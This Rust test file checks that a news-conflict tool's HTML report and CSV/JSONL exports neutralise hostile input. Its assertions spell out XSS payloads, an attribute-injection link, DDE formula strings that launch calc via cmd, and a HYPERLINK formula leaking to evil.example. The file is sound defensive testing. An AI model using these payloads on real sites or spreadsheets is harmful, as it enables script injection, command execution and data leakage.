//! The editor-facing outputs under hostile input: `report.html` parsed as a browser would
//! (no live markup from input, no fetches, no script links), `conflicts.csv` with formula
//! cells defused, and `conflicts.jsonl` read back into its typed records.
//!
//! The fixture `tests/corpora/hostile/input/feed.jsonl` has three articles about one arrest
//! (asserted by one outlet, denied by two), whose ids, outlets and titles look like
//! spreadsheet formulas and whose bodies and links carry `<script>`, `<img onerror>` and
//! `javascript:` payloads, so the payloads end up in the conflicts.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::process::Command;

use crosscheck::report::json::Message;
use scraper::{ElementRef, Html, Selector};

fn corpus(path: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
}

/// Runs the built binary over `input` into a fresh temporary folder.
fn run(input: &Path, extra: &[&str]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temporary folder");
    let out = Command::new(env!("CARGO_BIN_EXE_crosscheck"))
        .arg("run")
        .arg(input)
        .arg("--out")
        .arg(dir.path())
        .arg("--quiet")
        .args(extra)
        .output()
        .expect("run crosscheck");
    assert!(
        out.status.success(),
        "crosscheck run failed ({}):\n{}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    dir
}

fn hostile(extra: &[&str]) -> tempfile::TempDir {
    run(&corpus("tests/corpora/hostile/input"), extra)
}

fn read(dir: &tempfile::TempDir, name: &str) -> String {
    std::fs::read_to_string(dir.path().join(name)).unwrap_or_else(|e| panic!("reading {name}: {e}"))
}

fn sel(s: &str) -> Selector {
    Selector::parse(s).unwrap_or_else(|e| panic!("selector {s}: {e:?}"))
}

/// All text of the document, as a reader sees it (entities decoded).
fn text_of(doc: &Html) -> String {
    doc.root_element().text().collect()
}

fn all_elements(doc: &Html) -> Vec<ElementRef<'_>> {
    doc.root_element().descendent_elements().collect()
}

/// Rows of a CSV file (header included), parsed with a real CSV reader.
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes());
    r.records()
        .map(|rec| rec.expect("a CSV record").iter().map(str::to_string).collect())
        .collect()
}

fn column(rows: &[Vec<String>], name: &str) -> Vec<String> {
    let i = rows[0]
        .iter()
        .position(|h| h == name)
        .unwrap_or_else(|| panic!("column {name}"));
    rows[1..].iter().map(|r| r[i].clone()).collect()
}

// Markup that ingest keeps (HTML's own tags, such as "<script>" or "<img ...>", are replaced
// by a space as articles are read), so the report must escape it.
const PAYLOADS: [&str; 2] = ["<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>"];

#[test]
fn report_html_keeps_hostile_input_inert() {
    let dir = hostile(&[]);
    let html = read(&dir, "report.html");
    let doc = Html::parse_document(&html);

    // The only script is the page's own.
    let scripts: Vec<ElementRef> = doc.select(&sel("script")).collect();
    assert_eq!(scripts.len(), 1, "expected only the page's own script");
    assert_eq!(scripts[0].value().id(), Some("crosscheck-ui"));
    let own: String = scripts[0].text().collect();
    assert!(!own.contains("alert("), "input text inside the page's script");

    for el in all_elements(&doc) {
        let name = el.value().name();
        assert!(
            !matches!(name, "img" | "iframe" | "object" | "embed" | "base" | "form" | "link"),
            "unexpected <{name}> element: {}",
            el.html()
        );
        for (attr, value) in el.value().attrs() {
            let attr = attr.to_ascii_lowercase();
            assert!(
                !attr.starts_with("on"),
                "event handler attribute {attr}={value:?} on <{name}>"
            );
            assert_ne!(attr, "src", "<{name}> loads {value:?}");
            if attr == "href" {
                let v = value.trim().to_ascii_lowercase();
                assert!(
                    v.starts_with('#') || v.starts_with("https://") || v.starts_with("http://"),
                    "link to {value:?} on <{name}>"
                );
                assert!(!v.contains("javascript:"), "script link {value:?}");
            }
        }
    }
    // Links out of the page never pass the opener or the referrer on.
    for a in doc.select(&sel("a[href^='http']")) {
        let rel: BTreeSet<&str> = a.attr("rel").unwrap_or("").split_whitespace().collect();
        assert!(rel.contains("noopener") && rel.contains("noreferrer"), "{}", a.html());
    }

    // The payloads are shown to the reader as text.
    let text = text_of(&doc);
    for p in PAYLOADS {
        assert!(text.contains(p), "payload {p:?} not shown as text");
    }
    assert!(text.contains(r#"=HYPERLINK("http://evil.example/?leak","Click here")"#));
    assert!(text.contains("+cmd|' /C calc'!A0"));
    assert!(text.contains("@SUM(1+1)*cmd|' /C calc'!A0"));
    // A link with quotes in it stays one attribute value.
    let hrefs: BTreeSet<&str> = doc.select(&sel("a[href]")).filter_map(|a| a.attr("href")).collect();
    assert!(
        hrefs.contains(r#"https://example.com/coastline/olsen" onmouseover="alert(3)"#),
        "{hrefs:?}"
    );

    // One card per conflict, its data attributes holding the input verbatim.
    let cards: Vec<ElementRef> = doc.select(&sel("article.conflict")).collect();
    let ids = column(&csv_rows(&read(&dir, "conflicts.csv")), "conflict_id");
    assert!(!ids.is_empty(), "the fixture must produce conflicts");
    assert_eq!(
        cards
            .iter()
            .map(|c| c.attr("id").unwrap_or("").to_string())
            .collect::<Vec<_>>(),
        ids
    );
    let outlets: BTreeSet<&str> = cards
        .iter()
        .flat_map(|c| [c.attr("data-source-a"), c.attr("data-source-b")])
        .flatten()
        .collect();
    assert!(outlets.contains("@Harbour Gazette"), "{outlets:?}");
    assert!(outlets.contains("+Coastline Courier"), "{outlets:?}");
    // The trigger words are highlighted.
    let marks: Vec<String> = doc
        .select(&sel("article.conflict mark"))
        .map(|m| m.text().collect())
        .collect();
    assert!(marks.iter().any(|m| m == "denied"), "{marks:?}");
    assert!(marks.iter().any(|m| m == "arrested"), "{marks:?}");
}

#[test]
fn report_html_is_self_contained() {
    let dir = run(&corpus("corpus/articles"), &[]);
    let html = read(&dir, "report.html");
    let doc = Html::parse_document(&html);

    // No fetches: the policy forbids them, and nothing asks for one.
    let csp = doc
        .select(&sel("meta[http-equiv='Content-Security-Policy']"))
        .next()
        .and_then(|m| m.attr("content"))
        .expect("a Content-Security-Policy");
    assert!(csp.contains("default-src 'none'"), "{csp}");
    assert!(csp.contains("script-src 'sha256-"), "{csp}");
    for el in all_elements(&doc) {
        for (attr, value) in el.value().attrs() {
            assert!(
                !matches!(attr, "src" | "srcset" | "poster" | "data"),
                "<{}> {attr}={value:?}",
                el.value().name()
            );
        }
    }
    for style in doc.select(&sel("style")) {
        let css: String = style.text().collect();
        assert!(
            !css.contains("@import") && !css.contains("url("),
            "external resource in the styles"
        );
    }

    // The parts an editor looks for.
    for id in ["summary", "stories", "sources", "conflicts", "toolbar", "conflict-list"] {
        assert!(doc.select(&sel(&format!("#{id}"))).next().is_some(), "no #{id}");
    }
    // One card per pair of sentences: conflicts between the same two sentences (the demo's
    // wire story carried by two outlets) share a card that names the others.
    let rows = csv_rows(&read(&dir, "conflicts.csv"));
    let ids = column(&rows, "conflict_id");
    let (kinds, a, b) = (column(&rows, "kind"), column(&rows, "a_text"), column(&rows, "b_text"));
    let mut pairs = std::collections::BTreeMap::new();
    for i in 0..ids.len() {
        let key = (
            &kinds[i],
            a[i].clone().min(b[i].clone()),
            a[i].clone().max(b[i].clone()),
        );
        pairs.entry(key).or_insert_with(Vec::new).push(&ids[i]);
    }
    assert!(pairs.len() < ids.len(), "the demo has no wire copy in conflict");
    assert_eq!(
        doc.select(&sel("article.conflict")).count(),
        pairs.len().min(crosscheck::report::html::MAX_CARDS)
    );
    let text = text_of(&doc);
    for same in pairs.values().filter(|v| v.len() > 1) {
        for id in &same[1..] {
            assert!(text.contains(&format!("conflict {id} (")), "{id} not named on its card");
        }
    }
    assert!(
        doc.select(&sel("article.story svg circle")).count() > 0,
        "no timeline dots"
    );
    assert!(doc.select(&sel("#sources svg rect")).count() > 0, "no matrix cells");
    // Without the script, every card is visible and the filters are out of the way.
    assert!(doc.select(&sel("article.conflict[hidden]")).next().is_none());
    assert!(doc.select(&sel("#toolbar[hidden]")).next().is_some());
}

#[test]
fn report_html_is_identical_for_any_thread_count() {
    let one = hostile(&["--threads", "1"]);
    let two = hostile(&["--threads", "2"]);
    assert!(
        read(&one, "report.html") == read(&two, "report.html"),
        "report.html depends on --threads"
    );
}

#[test]
fn conflicts_csv_defuses_formula_cells() {
    let dir = hostile(&[]);
    for file in ["conflicts.csv", "articles.csv"] {
        let rows = csv_rows(&read(&dir, file));
        assert!(rows.len() > 1, "{file} has no rows");
        for (i, row) in rows.iter().enumerate().skip(1) {
            for cell in row {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{file} row {i}: formula cell {cell:?}"
                );
            }
        }
    }
    let rows = csv_rows(&read(&dir, "conflicts.csv"));
    let sources: BTreeSet<String> = column(&rows, "a_source")
        .into_iter()
        .chain(column(&rows, "b_source"))
        .collect();
    for s in ["'@Harbour Gazette", "'+Coastline Courier"] {
        assert!(sources.contains(s), "{s:?} not in {sources:?}");
    }
    assert!(column(&rows, "a_article_id")
        .iter()
        .all(|id| id.starts_with("'=HYPERLINK(")));
    // The text itself is kept: only the quote is added.
    assert!(column(&rows, "a_text").iter().any(|t| t.contains(PAYLOADS[0])));
}

#[test]
fn conflicts_jsonl_parses_back_into_messages() {
    let dir = hostile(&["--jsonl"]);
    let ids = column(&csv_rows(&read(&dir, "conflicts.csv")), "conflict_id");
    let mut seen = Vec::new();
    for (n, line) in read(&dir, "conflicts.jsonl").lines().enumerate() {
        let msg: Message = serde_json::from_str(line).unwrap_or_else(|e| panic!("line {}: {e}: {line}", n + 1));
        let Message::Conflict(rec) = msg;
        assert_eq!(rec.kind, "denial");
        assert!(rec.confidence > 0.0 && rec.confidence <= 1.0, "{}", rec.confidence);
        for side in [&rec.a, &rec.b] {
            for (role, text, start, end) in &side.cues {
                assert_eq!(
                    side.text.get(*start as usize..*end as usize),
                    Some(text.as_str()),
                    "{role} cue"
                );
            }
        }
        // JSON keeps the input as it was: no spreadsheet quoting.
        assert_eq!(rec.a.source, "@Harbour Gazette");
        assert!(rec.a.text.contains(PAYLOADS[0]), "{}", rec.a.text);
        assert_eq!(rec.a.published.as_deref(), Some("2025-03-03"));
        seen.push(rec.conflict_id);
    }
    assert_eq!(seen, ids, "conflicts.jsonl and conflicts.csv list different conflicts");

    let plain = hostile(&[]);
    assert!(
        !plain.path().join("conflicts.jsonl").exists(),
        "conflicts.jsonl written without --jsonl"
    );
}
